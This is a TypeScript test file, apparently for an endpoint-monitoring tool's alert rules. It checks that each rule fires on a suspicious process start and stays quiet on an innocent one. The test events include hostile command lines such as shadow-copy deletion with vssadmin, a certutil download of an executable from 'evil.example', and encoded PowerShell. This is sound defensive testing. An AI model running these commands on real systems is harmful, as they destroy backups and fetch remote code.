/**
 * Goal: each rule of the shipped alerts.yml fires on what it is for, and not on its innocent neighbour. Method: the shipped file, each
 * rule switched on by itself; events are worked out by hand.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { loadConfig } from '@launchbeat/ecs-schemas/beat';
import { type Overrides, processStart } from '../../../tests/support/documents.ts';
import { type AgentHealth, compileAgentRules, troublesOf } from './agent-rules.ts';
import { alertsConfigSchema, allRules } from './alerts-config.ts';
import { createAssess } from './assess.ts';
import { createTrackInMemory } from './track-in-memory.ts';

const SHIPPED = loadConfig({
  file: 'collector/alerts.yml',
  schema: alertsConfigSchema,
  environment: {},
});

/** The file with one rule, in force. */
const only = (id: string) => ({
  ...SHIPPED,
  chats: { duty: { id: '1' } },
  rules: (SHIPPED.rules ?? [])
    .filter((rule) => rule.id === id)
    .map((rule) => ({ ...rule, enabled: true })),
});

const started = (name: string, commandLine = '', over: Overrides = {}): Overrides => ({
  process: { name, executable: `C:\\Windows\\System32\\${name}`, command_line: commandLine },
  launchbeat: { program: undefined },
  ...over,
});
const flagged = (flag: string, launch = true) => ({
  launchbeat: { program: undefined, flags: [flag], launch },
});

/** Rule → an event for it, and one that is none. */
const STARTS: Readonly<Record<string, readonly [fires: Overrides, not: Overrides]>> = {
  'watched-programs': [{}, { launchbeat: { program: undefined } }],
  'office-starts-shell': [
    started('cmd.exe', 'cmd /c calc', flagged('office_child', false)),
    started('splwow64.exe', 'splwow64', flagged('office_child', false)),
  ],
  'encoded-powershell': [
    started('powershell.exe', 'powershell -enc QQBB', flagged('encoded_powershell')),
    started('powershell.exe', 'powershell -File a.ps1'),
  ],
  'double-extension': [
    started('report.pdf.exe', '', flagged('double_extension')),
    started('report.exe'),
  ],
  'backups-deleted': [
    started('vssadmin.exe', 'vssadmin.exe Delete Shadows /All /Quiet'),
    started('vssadmin.exe', 'vssadmin list shadows'),
  ],
  'downloads-by-system-tools': [
    started('certutil.exe', 'certutil -urlcache -f http://evil.example/a.exe a.exe'),
    started('certutil.exe', 'certutil -dump a.cer'),
  ],
  'from-downloads': [
    { process: { executable: 'C:\\Users\\a\\Downloads\\setup.exe', name: 'setup.exe' } },
    { process: { executable: 'C:\\Program Files\\Downloads.exe', name: 'Downloads.exe' } },
  ],
  'remote-control': [
    started('anydesk.exe', '', flagged('remote_tool')),
    started('anydesk.exe', '', {
      launchbeat: {
        ...flagged('remote_tool').launchbeat,
        actor: { name: 'helpdesk2', domain: 'ACME' },
      },
    }),
  ],
  'elevated-at-night': [
    { '@timestamp': '2026-11-23T23:00:00Z', ...started('mmc.exe', '', flagged('elevated')) },
    { '@timestamp': '2026-11-23T12:00:00Z', ...started('mmc.exe', '', flagged('elevated')) },
  ],
};

for (const [id, [fires, not]] of Object.entries(STARTS)) {
  test(`${id} fires on its event, and not on the innocent one`, () => {
    const assess = createAssess(only(id));
    assert.equal(assess([processStart(fires)]).length, 1);
    assert.equal(assess([processStart(not)]).length, 0);
  });
}

/** Rule → starts (minute, user, host), and the minutes that are alerts. */
const COUNTED: Readonly<Record<string, readonly [starts: string[], alerts: string[]]>> = {
  'new-program-for-user': [
    ['0 a x.exe pc-1', '1 a x.exe pc-2', '2 b x.exe pc-1'],
    ['0', '2'],
  ],
  'rare-program': [
    ['0 a x.exe pc-1', '1 a x.exe pc-1', '2 a x.exe pc-2', '3 a x.exe pc-3', '4 a x.exe pc-1'],
    ['0', '2'],
  ],
  'many-starts': [
    [...Array<string>(49).fill('0 a x.exe pc-1'), '0 b x.exe pc-1', '0.5 a x.exe pc-1'],
    ['0.5'],
  ],
};

for (const [id, [starts, wanted]] of Object.entries(COUNTED)) {
  test(`${id} counts what it is for`, () => {
    const track = createTrackInMemory(only(id), { warmsUp: false });
    const beganMs = Date.UTC(2026, 10, 23, 12);
    const alerts = starts.flatMap((start) => {
      const [minute = '0', user = '', name = '', host = ''] = start.split(' ');
      const atMs = beganMs + Number(minute) * 60_000;
      const document = processStart({
        '@timestamp': new Date(atMs).toISOString(),
        ...{ process: { name }, host: { name: host } },
        launchbeat: { actor: { name: user } },
      });
      return track(document, atMs).map(() => minute);
    });
    assert.deepEqual(alerts, wanted);
  });
}

const NOW_MS = Date.UTC(2026, 10, 23, 12);
const agentOf = (over: Partial<AgentHealth>): AgentHealth => ({
  ...{ id: 'a', name: 'PC-1', host: 'pc-1.acme.local', tags: [], revoked: false },
  ...{ lastSeenMs: NOW_MS, reasons: [] },
  ...over,
});

for (const [id, ill, well] of [
  ['agent-silent', { lastSeenMs: NOW_MS - 31 * 60_000 }, { lastSeenMs: NOW_MS - 29 * 60_000 }],
  ['agent-in-trouble', { reasons: ['auditing of process creation is off'] }, { reasons: [] }],
] as const) {
  test(`${id} tells of an agent in trouble, and not of one that is well`, () => {
    const rules = compileAgentRules(only(id));
    const of = (over: Partial<AgentHealth>) =>
      troublesOf(rules, [agentOf(over)], [], { nowMs: NOW_MS, offlineAfterMs: 300_000 }).length;
    assert.equal(of(ill), 1);
    assert.equal(of(well), 0);
    assert.equal(of({ ...ill, revoked: true }), 0);
  });
}

test('every shipped rule has such a test, says what it is for, and names its severity', () => {
  const tested = [...Object.keys(STARTS), ...Object.keys(COUNTED)];
  const agents = ['agent-silent', 'agent-in-trouble'];
  assert.deepEqual(
    allRules(SHIPPED.rules)
      .map(({ id }) => id)
      .sort(),
    [...tested, ...agents].sort(),
  );
  assert.ok(SHIPPED.rules?.every(({ description }) => description !== undefined));
});
